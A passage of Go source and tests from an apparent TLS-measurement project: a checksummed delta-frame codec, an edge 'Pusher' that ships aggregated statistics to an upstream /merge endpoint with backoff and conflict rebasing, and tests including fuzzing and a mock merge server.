// months — every counter family a delta ships is exercised through the
// snapshot payload it embeds, and the generation advances like a real edge's
// shard (records counted per month).
func buildAggregate(seed uint64, months int) *notary.Aggregate {
	agg := notary.NewAggregate()
	m := timeline.M(2012, time.January)
	for i := 0; i < months; i++ {
		i := uint64(i)
		agg.UpdateMonth(m, 10+i, func(ms *notary.MonthStats) {
			ms.Total += int(10 + i)
			ms.Established += int(7 + i + seed)
			ms.ByVersion[registry.VersionTLS12] += int(3 + seed)
			ms.ByClass["RC4"] += int(2 + i)
			ms.ByKex[registry.KexECDHE] += int(1 + seed)
			ms.AdvRC4 += int(i)
			ms.OffersHeartbeatN += int(seed)
		})
		m = m.Next()
	}
	return agg
}

func mustEncode(t *testing.T, d *Delta) []byte {
	t.Helper()
	enc, err := EncodeDelta(d)
	if err != nil {
		t.Fatalf("EncodeDelta: %v", err)
	}
	return enc
}

// TestDeltaRoundTrip is the codec's core property: decode(encode(d)) carries
// the same source, base and deep-equal aggregate, across sizes including an
// empty delta (a heartbeat push with nothing accumulated).
func TestDeltaRoundTrip(t *testing.T) {
	for _, months := range []int{0, 1, 5, 40} {
		for seed := uint64(1); seed <= 3; seed++ {
			d := &Delta{Source: "edge-eu", Base: 17 * seed, Agg: buildAggregate(seed, months)}
			got, err := DecodeDelta(mustEncode(t, d))
			if err != nil {
				t.Fatalf("months=%d seed=%d: DecodeDelta: %v", months, seed, err)
			}
			if got.Source != d.Source || got.Base != d.Base {
				t.Fatalf("months=%d seed=%d: header (%q, %d), want (%q, %d)",
					months, seed, got.Source, got.Base, d.Source, d.Base)
			}
			if !reflect.DeepEqual(got.Agg, d.Agg) {
				t.Fatalf("months=%d seed=%d: round-tripped aggregate differs", months, seed)
			}
			if got.Records() != d.Agg.Generation() {
				t.Fatalf("months=%d seed=%d: records %d, want %d",
					months, seed, got.Records(), d.Agg.Generation())
			}
		}
	}
}

// TestDeltaDeterministic pins deterministic encoding: equal content encodes
// to equal bytes, including after a decode round trip (map iteration order
// must be hidden by the embedded snapshot codec's sorting).
func TestDeltaDeterministic(t *testing.T) {
	d := &Delta{Source: "edge-us", Base: 99, Agg: buildAggregate(4, 20)}
	a, b := mustEncode(t, d), mustEncode(t, d)
	if !bytes.Equal(a, b) {
		t.Fatal("two encodings of the same delta differ")
	}
	dec, err := DecodeDelta(a)
	if err != nil {
		t.Fatalf("DecodeDelta: %v", err)
	}
	if c := mustEncode(t, dec); !bytes.Equal(a, c) {
		t.Fatal("re-encoding the decoded delta changed the bytes")
	}
}

// TestDeltaEncodeErrors: the encoder refuses frames the decoder would
// reject.
func TestDeltaEncodeErrors(t *testing.T) {
	long := make([]byte, MaxDeltaSource+1)
	for i := range long {
		long[i] = 'x'
	}
	if _, err := EncodeDelta(&Delta{Source: string(long), Agg: notary.NewAggregate()}); err == nil {
		t.Fatal("oversized source accepted")
	}
	if _, err := EncodeDelta(&Delta{Source: "edge"}); err == nil {
		t.Fatal("nil aggregate accepted")
	}
}

// TestDeltaTruncation sweeps every prefix length of a valid frame: all must
// fail cleanly (no panic, no false accept of a short frame).
func TestDeltaTruncation(t *testing.T) {
	enc := mustEncode(t, &Delta{Source: "edge", Base: 5, Agg: buildAggregate(7, 12)})
	for n := 0; n < len(enc); n++ {
		if _, err := DecodeDelta(enc[:n]); err == nil {
			t.Fatalf("truncation to %d of %d bytes decoded without error", n, len(enc))
		}
	}
	if _, err := DecodeDelta(enc); err != nil {
		t.Fatalf("full frame failed to decode: %v", err)
	}
}

// TestDeltaCorruption flips one byte at every offset of a valid frame:
// corruption anywhere — header, payload, CRC — must fail decoding; nothing
// may panic.
func TestDeltaCorruption(t *testing.T) {
	enc := mustEncode(t, &Delta{Source: "edge", Base: 3, Agg: buildAggregate(11, 16)})
	for off := 0; off < len(enc); off++ {
		mut := append([]byte(nil), enc...)
		mut[off] ^= 0x5a
		if _, err := DecodeDelta(mut); err == nil {
			t.Fatalf("byte %d corrupted, decode still succeeded", off)
		}
	}
}

// TestDeltaTrailingBytes: DecodeDelta rejects anything after the frame.
func TestDeltaTrailingBytes(t *testing.T) {
	enc := mustEncode(t, &Delta{Source: "edge", Agg: buildAggregate(3, 4)})
	if _, err := DecodeDelta(append(enc, 0x00)); err == nil {
		t.Fatal("trailing byte accepted")
	}
}

// TestDeltaVersionAndMagic: foreign frames and future versions are rejected
// up front, not misparsed.
func TestDeltaVersionAndMagic(t *testing.T) {
	enc := mustEncode(t, &Delta{Source: "edge", Agg: buildAggregate(5, 4)})
	bad := append([]byte(nil), enc...)
	bad[0] = 'X'
	if _, err := DecodeDelta(bad); err == nil {
		t.Fatal("bad magic accepted")
	}
	bad = append([]byte(nil), enc...)
	bad[4] = DeltaVersion + 1
	if _, err := DecodeDelta(bad); err == nil {
		t.Fatal("future version accepted")
	}
}

// TestDeltaStreamed: ReadDelta consumes exactly one frame from a stream,
// leaving following bytes unread — deltas can share a connection with other
// traffic.
func TestDeltaStreamed(t *testing.T) {
	d1 := &Delta{Source: "a", Base: 1, Agg: buildAggregate(1, 3)}
	d2 := &Delta{Source: "b", Base: 2, Agg: buildAggregate(2, 5)}
	var buf bytes.Buffer
	if err := WriteDelta(&buf, d1); err != nil {
		t.Fatalf("WriteDelta: %v", err)
	}
	if err := WriteDelta(&buf, d2); err != nil {
		t.Fatalf("WriteDelta: %v", err)
	}
	r := bytes.NewReader(buf.Bytes())
	for i, want := range []*Delta{d1, d2} {
		got, err := ReadDelta(r)
		if err != nil {
			t.Fatalf("frame %d: ReadDelta: %v", i, err)
		}
		if got.Source != want.Source || got.Base != want.Base || !reflect.DeepEqual(got.Agg, want.Agg) {
			t.Fatalf("frame %d differs after streamed decode", i)
		}
	}
	if r.Len() != 0 {
		t.Fatalf("%d bytes left after reading both frames", r.Len())
	}
}

// FuzzReadDelta feeds arbitrary bytes to the decoder: it must never panic,
// and anything it accepts must re-encode to a frame that decodes to the same
// delta (decode∘encode is a retraction).
func FuzzReadDelta(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte(deltaMagic))
	if enc, err := EncodeDelta(&Delta{Source: "", Agg: notary.NewAggregate()}); err == nil {
		f.Add(enc)
	}
	if enc, err := EncodeDelta(&Delta{Source: "edge-eu", Base: 42, Agg: buildAggregate(1, 6)}); err == nil {
		f.Add(enc)
	}
	if enc, err := EncodeDelta(&Delta{Source: "edge-us", Base: 7, Agg: buildAggregate(2, 30)}); err == nil {
		f.Add(enc)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		d, err := DecodeDelta(data)
		if err != nil {
			return
		}
		re, err := EncodeDelta(d)
		if err != nil {
			t.Fatalf("accepted delta failed to re-encode: %v", err)
		}
		d2, err := DecodeDelta(re)
		if err != nil {
			t.Fatalf("re-encoded accepted delta failed to decode: %v", err)
		}
		if d2.Source != d.Source || d2.Base != d.Base || !reflect.DeepEqual(d2.Agg, d.Agg) {
			t.Fatal("decode(encode(decode(data))) != decode(data)")
		}
	})
}
