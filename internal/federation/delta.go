// Package federation ships merged aggregate deltas between collection
// tiers: edge collectors near the traffic accumulate records into ordinary
// notary aggregates and periodically POST the accumulated-but-unshipped
// slice upstream, where a core node folds it into a hosted study via the
// same Aggregate.Merge path local ingestion uses. Upstream bandwidth drops
// from O(records) to O(months×counters), and because Merge is commutative
// and associative the federated study is byte-identical to a single node
// ingesting every record itself.
//
// The wire format is a delta frame:
//
//	offset  size  field
//	0       4     magic "TLSD"
//	4       1     version byte (DeltaVersion)
//	5       4     payload length, uint32 little-endian
//	9       N     payload (see below)
//	9+N     4     CRC32-IEEE of the payload, little-endian
//
// The payload carries the pushing source's name, the base generation the
// delta starts after (the exactly-once cursor: this delta covers records
// base+1..base+Records at the source), the aggregate's snapshot payload
// version, and the snapshot codec's varint payload of the aggregate itself
// (notary.AppendAggregatePayload) — so the delta and snapshot formats share
// one deterministic, fuzz-hardened aggregate encoding.
//
// Decoding is defensive in the snapshot/batch codec style: every length is
// bounds-checked against the bytes present, so arbitrary or corrupted input
// errors instead of panicking or allocating implausibly (FuzzReadDelta).
package federation

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"

	"tlsage/internal/notary"
)

// deltaMagic brands delta frames.
const deltaMagic = "TLSD"

// DeltaVersion is the delta frame version byte written by this build.
const DeltaVersion = 1

// deltaHeaderLen is magic + version + payload length.
const deltaHeaderLen = len(deltaMagic) + 1 + 4

// maxDeltaPayload caps the payload length a reader will believe. A delta is
// O(months×counters) — a few MiB for the multi-year study — so a corrupt
// length field must not drive a GiB-scale allocation.
const maxDeltaPayload = 1 << 30

// MaxDeltaSource bounds the source-name length on the wire.
const MaxDeltaSource = 256

// ContentTypeDelta is the Content-Type a delta frame travels under
// (POST /merge).
const ContentTypeDelta = "application/x-tlsage-delta"

// Delta is one shipped slice of a source's aggregate: the contributions of
// records Base+1 .. Base+Agg.Generation() at that source. The receiver
// tracks each source's applied-through generation, so a re-sent delta is
// recognized as a duplicate instead of double-counting.
type Delta struct {
	// Source names the pushing collector; the receiver sequences deltas per
	// source.
	Source string
	// Base is the source generation this delta starts after: the sender had
	// already shipped (and had acknowledged) Base records when it cut this
	// delta.
	Base uint64
	// Agg holds the merged contributions of the delta's records.
	Agg *notary.Aggregate
}

// Records is how many source records the delta covers.
func (d *Delta) Records() uint64 { return d.Agg.Generation() }

// AppendDelta appends the complete framed delta to dst and returns the
// extended slice. Encoding is deterministic for equal content.
func AppendDelta(dst []byte, d *Delta) ([]byte, error) {
	if len(d.Source) > MaxDeltaSource {
		return nil, fmt.Errorf("federation: source name %d bytes long, max %d", len(d.Source), MaxDeltaSource)
	}
	if d.Agg == nil {
		return nil, fmt.Errorf("federation: delta without an aggregate")
	}
	dst = append(dst, deltaMagic...)
	dst = append(dst, DeltaVersion)
	lenAt := len(dst)
	dst = append(dst, 0, 0, 0, 0) // payload length backfilled below
	payloadAt := len(dst)
	dst = binary.AppendUvarint(dst, uint64(len(d.Source)))
	dst = append(dst, d.Source...)
	dst = binary.AppendUvarint(dst, d.Base)
	dst = append(dst, notary.SnapshotVersion)
	dst = notary.AppendAggregatePayload(dst, d.Agg)
	payload := dst[payloadAt:]
	if len(payload) > maxDeltaPayload {
		return nil, fmt.Errorf("federation: delta payload %d bytes exceeds the %d cap", len(payload), maxDeltaPayload)
	}
	binary.LittleEndian.PutUint32(dst[lenAt:], uint32(len(payload)))
	return binary.LittleEndian.AppendUint32(dst, crc32.ChecksumIEEE(payload)), nil
}

// EncodeDelta frames d into a fresh buffer.
func EncodeDelta(d *Delta) ([]byte, error) { return AppendDelta(nil, d) }

// WriteDelta writes the framed delta to w.
func WriteDelta(w io.Writer, d *Delta) error {
	buf, err := EncodeDelta(d)
	if err != nil {
		return err
	}
	_, err = w.Write(buf)
	return err
}

// ReadDelta reads one framed delta from r and decodes it. Truncated,
// corrupted or version-mismatched input yields an error; the returned delta
// is nil unless the checksum and every field decoded cleanly.
func ReadDelta(r io.Reader) (*Delta, error) {
	var hdr [9]byte // deltaHeaderLen
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, fmt.Errorf("federation: delta header: %w", err)
	}
	if string(hdr[:4]) != deltaMagic {
		return nil, fmt.Errorf("federation: not a delta frame (bad magic %q)", hdr[:4])
	}
	if hdr[4] != DeltaVersion {
		return nil, fmt.Errorf("federation: delta version %d, this build reads %d", hdr[4], DeltaVersion)
	}
	n := binary.LittleEndian.Uint32(hdr[5:])
	if n > maxDeltaPayload {
		return nil, fmt.Errorf("federation: implausible delta payload length %d", n)
	}
	// LimitReader + ReadAll grows with the bytes actually present, so a
	// corrupt length over a short stream fails without a huge up-front
	// allocation.
	body, err := io.ReadAll(io.LimitReader(r, int64(n)+4))
	if err != nil {
		return nil, fmt.Errorf("federation: delta body: %w", err)
	}
	if uint64(len(body)) != uint64(n)+4 {
		return nil, fmt.Errorf("federation: truncated delta: %d payload+trailer bytes, want %d", len(body), n+4)
	}
	payload, trailer := body[:n], body[n:]
	if got, want := crc32.ChecksumIEEE(payload), binary.LittleEndian.Uint32(trailer); got != want {
		return nil, fmt.Errorf("federation: delta checksum mismatch (%08x, want %08x)", got, want)
	}
	return decodeDeltaPayload(payload)
}

// DecodeDelta decodes one framed delta from b (exactly one frame; no
// trailing bytes are tolerated).
func DecodeDelta(b []byte) (*Delta, error) {
	r := newSliceReader(b)
	d, err := ReadDelta(r)
	if err != nil {
		return nil, err
	}
	if r.off != len(b) {
		return nil, fmt.Errorf("federation: %d trailing bytes after delta frame", len(b)-r.off)
	}
	return d, nil
}

// decodeDeltaPayload parses the checksummed payload: source, base,
// aggregate payload version, aggregate payload.
func decodeDeltaPayload(payload []byte) (*Delta, error) {
	srcLen, n := binary.Uvarint(payload)
	if n <= 0 {
		return nil, fmt.Errorf("federation: delta payload: bad source length varint")
	}
	rest := payload[n:]
	if srcLen > MaxDeltaSource || srcLen > uint64(len(rest)) {
		return nil, fmt.Errorf("federation: delta payload: source length %d exceeds remaining %d bytes", srcLen, len(rest))
	}
	source := string(rest[:srcLen])
	rest = rest[srcLen:]
	base, n := binary.Uvarint(rest)
	if n <= 0 {
		return nil, fmt.Errorf("federation: delta payload: bad base generation varint")
	}
	rest = rest[n:]
	if len(rest) < 1 {
		return nil, fmt.Errorf("federation: delta payload: missing aggregate version byte")
	}
	agg, err := notary.DecodeAggregatePayload(rest[1:], rest[0])
	if err != nil {
		return nil, err
	}
	return &Delta{Source: source, Base: base, Agg: agg}, nil
}

// sliceReader reads a byte slice without the bytes.Reader ReadAll
// growth-probing, so DecodeDelta sees EOF exactly at the end of b.
type sliceReader struct {
	b   []byte
	off int
}

func newSliceReader(b []byte) *sliceReader { return &sliceReader{b: b} }

func (s *sliceReader) Read(p []byte) (int, error) {
	if s.off >= len(s.b) {
		return 0, io.EOF
	}
	n := copy(p, s.b[s.off:])
	s.off += n
	return n, nil
}
