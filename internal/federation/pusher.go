package federation

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"tlsage/internal/notary"
)

// DefaultPushInterval is how often a Pusher ships its accumulated delta
// when PusherOptions.Interval is unset.
const DefaultPushInterval = 5 * time.Second

// MergeAck is the JSON body POST /merge answers with (and the 409/429 error
// shape). AppliedThrough is the receiver's per-source cursor after the
// request — on a conflict it tells the sender where to rebase from.
type MergeAck struct {
	Records        uint64 `json:"records"`
	AppliedThrough uint64 `json:"applied_through"`
	Generation     uint64 `json:"generation"`
	Duplicate      bool   `json:"duplicate,omitempty"`
	Error          string `json:"error,omitempty"`
}

// PusherOptions configures an edge Pusher.
type PusherOptions struct {
	// Source names this collector on the wire; the upstream sequences deltas
	// per source. Required.
	Source string
	// Upstream is the base URL of the target study (e.g.
	// "http://core:8080/studies/eu"); "/merge" is appended. Required.
	Upstream string
	// Interval is the push cadence; <= 0 means DefaultPushInterval.
	Interval time.Duration
	// Shipped seeds the shipped-through generation — on restart, the value
	// recovered via LoadShippedState, so already-acked records are never
	// re-shipped.
	Shipped uint64
	// Initial seeds the unshipped delta — on restart, the log tail past
	// Shipped replayed into a fresh shard. Nil starts empty.
	Initial *notary.Aggregate
	// StatePath, when set, persists the shipped-through generation there
	// (atomic tmp+rename) after every acknowledged push. Empty keeps the
	// cursor in memory only.
	StatePath string
	// Rebase, when set, rebuilds the unshipped delta after an upstream
	// overlap conflict (409): it must return the merged contributions of
	// every local record past generation `from` — typically a replay of the
	// durable record log's tail. It runs under the pusher's lock with no
	// other pusher activity; callers must only rely on it when no ingest is
	// in flight (the restart-recovery scenario), because records parsed but
	// not yet flushed into the pusher would otherwise be counted twice.
	Rebase func(from uint64) (*notary.Aggregate, error)
	// Client is the HTTP client to push with; nil uses http.DefaultClient.
	Client *http.Client
	// BaseDelay seeds the failure backoff (default 250ms), doubling per
	// consecutive failure up to MaxDelay (default 10s); the upstream's
	// Retry-After raises the floor, full jitter spreads synchronized edges
	// apart. Mirrors the feed retry discipline.
	BaseDelay time.Duration
	MaxDelay  time.Duration
	// Rand supplies jitter in [0,1); nil uses math/rand.
	Rand func() float64
	// Logf receives push-failure and rebase warnings; nil discards them.
	Logf func(format string, args ...any)
}

// Pusher is the edge half of the federation tier: shards merged into the
// local study are teed into its pending aggregate (Observe), and on a timer
// the accumulated-but-unshipped delta is swapped out and POSTed upstream as
// one frame. Each record's contribution ships exactly once: the
// shipped-through generation only advances on an upstream ack, and a failed
// push re-merges the unacked delta into pending (Merge is commutative, so
// retries never double-count and never lose).
type Pusher struct {
	opts PusherOptions
	url  string

	mu          sync.Mutex
	pending     *notary.Aggregate // accumulated but not yet acked upstream
	shipped     uint64            // source generation acked through
	backoff     time.Duration     // current failure backoff (0 = healthy)
	nextAllowed time.Time         // timer pushes wait for this after a failure
	lastErr     error
	deltas      uint64 // deltas acked upstream
	errs        uint64 // failed push attempts
	stateErrs   uint64 // shipped-state persist failures
	lastPush    time.Time

	stopOnce sync.Once
	stop     chan struct{}
	done     chan struct{}
}

// PusherStats is the /healthz edge gauge snapshot.
type PusherStats struct {
	Source          string
	Upstream        string
	ShippedDeltas   uint64
	ShippedThrough  uint64        // source generation acked upstream
	RetainedRecords uint64        // records accumulated but not yet acked
	RetainedBytes   int           // encoded size of the retained delta
	LastPushAge     time.Duration // -1 when nothing has shipped yet
	UpstreamErrors  uint64
	LastError       string
}

// NewPusher validates opts and starts the push timer. Close stops it and
// flushes one final time.
func NewPusher(opts PusherOptions) (*Pusher, error) {
	if opts.Source == "" {
		return nil, fmt.Errorf("federation: pusher needs a source name")
	}
	if len(opts.Source) > MaxDeltaSource {
		return nil, fmt.Errorf("federation: source name %d bytes long, max %d", len(opts.Source), MaxDeltaSource)
	}
	if opts.Upstream == "" {
		return nil, fmt.Errorf("federation: pusher needs an upstream URL")
	}
	if opts.Interval <= 0 {
		opts.Interval = DefaultPushInterval
	}
	if opts.BaseDelay <= 0 {
		opts.BaseDelay = 250 * time.Millisecond
	}
	if opts.MaxDelay <= 0 {
		opts.MaxDelay = 10 * time.Second
	}
	if opts.Rand == nil {
		opts.Rand = rand.Float64
	}
	pending := opts.Initial
	if pending == nil {
		pending = notary.NewAggregate()
	}
	p := &Pusher{
		opts:    opts,
		url:     mergeURL(opts.Upstream),
		pending: pending,
		shipped: opts.Shipped,
		stop:    make(chan struct{}),
		done:    make(chan struct{}),
	}
	go p.run()
	return p, nil
}

func mergeURL(upstream string) string {
	return strings.TrimSuffix(upstream, "/") + "/merge"
}

func (p *Pusher) logf(format string, args ...any) {
	if p.opts.Logf != nil {
		p.opts.Logf(format, args...)
	}
}

// Observe tees one merged shard into the pending delta. It is the shard
// observer the service layer calls after every merge into the local study,
// so the pusher accumulates exactly the records the study accepted.
func (p *Pusher) Observe(shard *notary.Aggregate) {
	if shard == nil || shard.Generation() == 0 {
		return
	}
	p.mu.Lock()
	p.pending.Merge(shard)
	p.mu.Unlock()
}

// ShippedThrough reports the source generation acked upstream.
func (p *Pusher) ShippedThrough() uint64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.shipped
}

// Stats snapshots the healthz gauges. RetainedBytes encodes the pending
// delta on demand — healthz polls are rare and the encoding is
// O(months×counters).
func (p *Pusher) Stats() PusherStats {
	p.mu.Lock()
	defer p.mu.Unlock()
	st := PusherStats{
		Source:          p.opts.Source,
		Upstream:        p.opts.Upstream,
		ShippedDeltas:   p.deltas,
		ShippedThrough:  p.shipped,
		RetainedRecords: p.pending.Generation(),
		LastPushAge:     -1,
		UpstreamErrors:  p.errs,
	}
	if buf, err := AppendDelta(nil, &Delta{Source: p.opts.Source, Base: p.shipped, Agg: p.pending}); err == nil {
		st.RetainedBytes = len(buf)
	}
	if !p.lastPush.IsZero() {
		st.LastPushAge = time.Since(p.lastPush)
	}
	if p.lastErr != nil {
		st.LastError = p.lastErr.Error()
	}
	return st
}

// run is the timer loop. Failed pushes are retried on later ticks once the
// backoff window (nextAllowed) has passed.
func (p *Pusher) run() {
	defer close(p.done)
	t := time.NewTicker(p.opts.Interval)
	defer t.Stop()
	for {
		select {
		case <-p.stop:
			return
		case <-t.C:
			_ = p.push(false)
		}
	}
}

// Flush pushes the pending delta now, ignoring the failure-backoff window.
// A failure leaves the delta retained for the next attempt.
func (p *Pusher) Flush() error { return p.push(true) }

// Close stops the timer and ships the pending delta one final time. The
// flush error is returned: a delta the upstream never acked survives only
// in the edge's durable record log, and the caller should know that.
func (p *Pusher) Close() error {
	p.stopOnce.Do(func() { close(p.stop) })
	<-p.done
	// A push can succeed and still leave work behind: resolving a 409
	// replaces the pending delta with the tail rebuilt past the upstream's
	// cursor. Keep pushing until nothing is pending or an attempt fails —
	// each successful round either drains the delta or advances the shipped
	// cursor, so the loop terminates.
	for {
		if err := p.push(true); err != nil {
			return err
		}
		p.mu.Lock()
		drained := p.pending.Generation() == 0
		p.mu.Unlock()
		if drained {
			return nil
		}
	}
}

// push swaps the pending delta for a fresh aggregate and POSTs it. On any
// failure the taken delta is re-merged with whatever accumulated meanwhile,
// so no record's contribution is ever dropped or sent twice.
func (p *Pusher) push(force bool) error {
	p.mu.Lock()
	if p.pending.Generation() == 0 {
		p.mu.Unlock()
		return nil
	}
	if !force && time.Now().Before(p.nextAllowed) {
		p.mu.Unlock()
		return nil
	}
	take := p.pending
	base := p.shipped
	p.pending = notary.NewAggregate()
	p.mu.Unlock()

	buf, err := EncodeDelta(&Delta{Source: p.opts.Source, Base: base, Agg: take})
	if err != nil {
		return p.fail(take, err, 0)
	}
	status, retryAfter, ack, err := postDelta(p.opts.Client, p.url, buf)
	if err != nil {
		return p.fail(take, fmt.Errorf("federation: pushing to %s: %w", p.url, err), 0)
	}
	switch {
	case status == http.StatusOK:
		p.mu.Lock()
		p.shipped = base + take.Generation()
		p.deltas++
		p.lastPush = time.Now()
		p.backoff = 0
		p.nextAllowed = time.Time{}
		p.lastErr = nil
		p.persistLocked()
		p.mu.Unlock()
		return nil
	case status == http.StatusTooManyRequests:
		return p.fail(take, fmt.Errorf("federation: upstream %s is busy (429)", p.url), retryAfter)
	case status == http.StatusConflict:
		return p.rebase(take, ack)
	default:
		msg := ack.Error
		if msg == "" {
			msg = http.StatusText(status)
		}
		return p.fail(take, fmt.Errorf("federation: upstream %s replied %d: %s", p.url, status, msg), retryAfter)
	}
}

// fail retains the taken delta (re-merged with anything accumulated since
// the swap) and arms the backoff window. Merge commutes, so the retained
// content equals what serial accumulation would have produced.
func (p *Pusher) fail(take *notary.Aggregate, err error, floor time.Duration) error {
	p.mu.Lock()
	take.Merge(p.pending)
	p.pending = take
	p.errs++
	p.lastErr = err
	if p.backoff == 0 {
		p.backoff = p.opts.BaseDelay
	} else if p.backoff *= 2; p.backoff > p.opts.MaxDelay {
		p.backoff = p.opts.MaxDelay
	}
	delay := p.backoff
	if floor > delay {
		delay = floor
	}
	// Full jitter on top of the floor: [delay, 2*delay), capped.
	delay += time.Duration(p.opts.Rand() * float64(delay))
	if delay > p.opts.MaxDelay && floor <= p.opts.MaxDelay {
		delay = p.opts.MaxDelay
	}
	p.nextAllowed = time.Now().Add(delay)
	p.mu.Unlock()
	p.logf("federation: push failed, retrying in %v: %v", delay.Round(time.Millisecond), err)
	return err
}

// rebase resolves an upstream overlap conflict (409): the upstream already
// applied part of the taken delta — an ack this edge lost, e.g. a crash
// between the server applying and the client persisting. Re-sending would
// double-count and dropping would lose the unapplied tail, so the unshipped
// delta is rebuilt from the record log past the upstream's applied-through
// cursor via the Rebase hook.
func (p *Pusher) rebase(take *notary.Aggregate, ack MergeAck) error {
	conflict := fmt.Errorf("federation: upstream %s already applied through generation %d", p.url, ack.AppliedThrough)
	if p.opts.Rebase == nil {
		return p.fail(take, fmt.Errorf("%w and no rebase source is configured", conflict), 0)
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	rebuilt, err := p.opts.Rebase(ack.AppliedThrough)
	if err != nil {
		// Retain under the lock — the fail path without re-locking.
		take.Merge(p.pending)
		p.pending = take
		p.errs++
		p.lastErr = fmt.Errorf("%w; rebase failed: %v", conflict, err)
		p.nextAllowed = time.Now().Add(p.opts.BaseDelay)
		return p.lastErr
	}
	if rebuilt == nil {
		rebuilt = notary.NewAggregate()
	}
	// The rebuilt delta replaces both the taken delta and anything observed
	// since the swap: the rebase source (the durable record log) already
	// contains every record that has reached Observe.
	p.logf("federation: rebased on upstream cursor %d: retrying %d records (had %d unacked)",
		ack.AppliedThrough, rebuilt.Generation(), take.Generation())
	p.pending = rebuilt
	p.shipped = ack.AppliedThrough
	p.backoff = 0
	p.nextAllowed = time.Time{}
	p.lastErr = nil
	p.persistLocked()
	return nil
}

// persistLocked writes the shipped-through cursor to StatePath (callers
// hold p.mu). Failures are counted and logged, never fatal: the cursor is a
// restart optimization, and a stale one only costs a duplicate push the
// upstream recognizes.
func (p *Pusher) persistLocked() {
	if p.opts.StatePath == "" {
		return
	}
	if err := SaveShippedState(p.opts.StatePath, p.shipped); err != nil {
		p.stateErrs++
		p.logf("federation: persisting shipped state: %v", err)
	}
}

// --- shipped-state persistence ---

// LoadShippedState reads the shipped-through generation persisted at path.
// A missing file is generation 0 (nothing acked yet), not an error.
func LoadShippedState(path string) (uint64, error) {
	b, err := os.ReadFile(path)
	if errors.Is(err, fs.ErrNotExist) {
		return 0, nil
	}
	if err != nil {
		return 0, err
	}
	gen, err := strconv.ParseUint(strings.TrimSpace(string(b)), 10, 64)
	if err != nil {
		return 0, fmt.Errorf("federation: shipped state %s: %w", path, err)
	}
	return gen, nil
}

// SaveShippedState atomically persists the shipped-through generation:
// write a temp file in the same directory, fsync, rename into place. A
// crash leaves either the old cursor or the new one, never a torn file.
func SaveShippedState(path string, gen uint64) error {
	dir := filepath.Dir(path)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	tmp, err := os.CreateTemp(dir, ".shipped-*")
	if err != nil {
		return err
	}
	tmpName := tmp.Name()
	if _, err := fmt.Fprintf(tmp, "%d\n", gen); err == nil {
		err = tmp.Sync()
	}
	if err != nil {
		tmp.Close()
		os.Remove(tmpName)
		return err
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmpName)
		return err
	}
	if err := os.Rename(tmpName, path); err != nil {
		os.Remove(tmpName)
		return err
	}
	return nil
}

// --- one-shot push ---

// PushDelta frames d and POSTs it to the study at upstream ("/merge" is
// appended), returning the server's ack. One shot, no retries — the Pusher
// adds the timer/backoff discipline; this is the fire-and-forget path for
// pre-aggregated payloads like externally-run scan campaigns. A nil client
// uses http.DefaultClient.
func PushDelta(upstream string, d *Delta, client *http.Client) (MergeAck, error) {
	buf, err := EncodeDelta(d)
	if err != nil {
		return MergeAck{}, err
	}
	status, _, ack, err := postDelta(client, mergeURL(upstream), buf)
	if err != nil {
		return ack, err
	}
	if status != http.StatusOK {
		msg := ack.Error
		if msg == "" {
			msg = http.StatusText(status)
		}
		return ack, fmt.Errorf("federation: upstream replied %d: %s", status, msg)
	}
	return ack, nil
}

// postDelta POSTs one encoded frame and parses the MergeAck reply (which
// may be an error shape on non-200 statuses).
func postDelta(client *http.Client, url string, frame []byte) (status int, retryAfter time.Duration, ack MergeAck, err error) {
	if client == nil {
		client = http.DefaultClient
	}
	resp, err := client.Post(url, ContentTypeDelta, bytes.NewReader(frame))
	if err != nil {
		return 0, 0, MergeAck{}, err
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	if err != nil {
		return resp.StatusCode, 0, MergeAck{}, fmt.Errorf("reading upstream reply: %w", err)
	}
	// Tolerate a non-JSON body (proxy error page, wrong port): the caller
	// still gets the status code; the ack just stays zero.
	_ = json.Unmarshal(raw, &ack)
	if secs, aerr := strconv.Atoi(strings.TrimSpace(resp.Header.Get("Retry-After"))); aerr == nil && secs >= 0 {
		retryAfter = time.Duration(secs) * time.Second
	}
	return resp.StatusCode, retryAfter, ack, nil
}
