package federation

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"tlsage/internal/notary"
)

// mergeSink is a minimal upstream for pusher tests: it folds accepted
// deltas into one aggregate and keeps a per-source applied-through cursor
// with the same duplicate/conflict rules the service's /merge endpoint
// implements. fail, when set, intercepts a request before anything applies.
type mergeSink struct {
	mu      sync.Mutex
	agg     *notary.Aggregate
	applied map[string]uint64
	deltas  int
	fail    func(n int, w http.ResponseWriter) bool // n is the 1-based request number
	reqs    int
}

func newMergeSink() *mergeSink {
	return &mergeSink{agg: notary.NewAggregate(), applied: make(map[string]uint64)}
}

func (s *mergeSink) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.reqs++
	if s.fail != nil && s.fail(s.reqs, w) {
		return
	}
	d, err := ReadDelta(r.Body)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	applied := s.applied[d.Source]
	ack := MergeAck{AppliedThrough: applied}
	switch {
	case d.Base+d.Records() <= applied:
		ack.Duplicate = true
	case d.Base < applied:
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusConflict)
		writeAck(w, ack)
		return
	default:
		s.agg.Merge(d.Agg)
		s.deltas++
		applied = d.Base + d.Records()
		s.applied[d.Source] = applied
		ack.Records = d.Records()
		ack.AppliedThrough = applied
	}
	ack.Generation = s.agg.Generation()
	writeAck(w, ack)
}

func writeAck(w http.ResponseWriter, ack MergeAck) {
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write([]byte(`{"records":` + uitoa(ack.Records) +
		`,"applied_through":` + uitoa(ack.AppliedThrough) +
		`,"generation":` + uitoa(ack.Generation) + `}`))
}

func uitoa(v uint64) string {
	if v == 0 {
		return "0"
